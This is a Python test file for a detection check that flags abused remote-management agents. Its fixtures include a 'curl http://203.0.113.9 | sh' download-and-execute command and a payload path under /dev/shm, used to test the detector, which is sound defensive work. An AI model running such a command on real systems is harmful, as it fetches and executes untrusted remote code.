from __future__ import annotations

from tasks.checks.host.msp_tool_abused import MspToolAbused
from tenantry.sweep.check import Known
from tests.tasks.checks.host._facts import cannot, connection, found, process, survey

CHECK = MspToolAbused()


AGENT = process(10, "/opt/mesh/meshagent")


def test_what_no_engineer_starts() -> None:
    running = (
        AGENT,
        process(11, "/usr/bin/sh", "sh", "-c", "curl http://203.0.113.9 | sh", parent=10),
        process(12, "/usr/bin/bash", "bash", parent=11),
        process(13, "/dev/shm/.x/k", parent=12),
        process(14, "/opt/anydesk/anydesk", parent=10),
    )
    fact = survey(processes=running, connections=(connection(12, remote="203.0.113.9"),))
    assert found(CHECK, fact, Known(tools=frozenset({"meshcentral"}))) == [
        ("critical", "11:1"),
        ("critical", "12:1"),
        ("high", "13:1"),
        ("high", "14:1"),
    ]


def test_what_it_is_for() -> None:
    running = (
        AGENT,
        process(11, "/usr/bin/bash", "bash", parent=10),
        process(12, "/usr/bin/apt-get", "apt-get", "upgrade", parent=11),
    )
    assert found(CHECK, survey(processes=running)) == []
    apart = process(20, "/usr/bin/sh", "sh", "-c", "curl http://203.0.113.9 | sh")
    assert found(CHECK, survey(processes=(AGENT, apart))) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "processes")
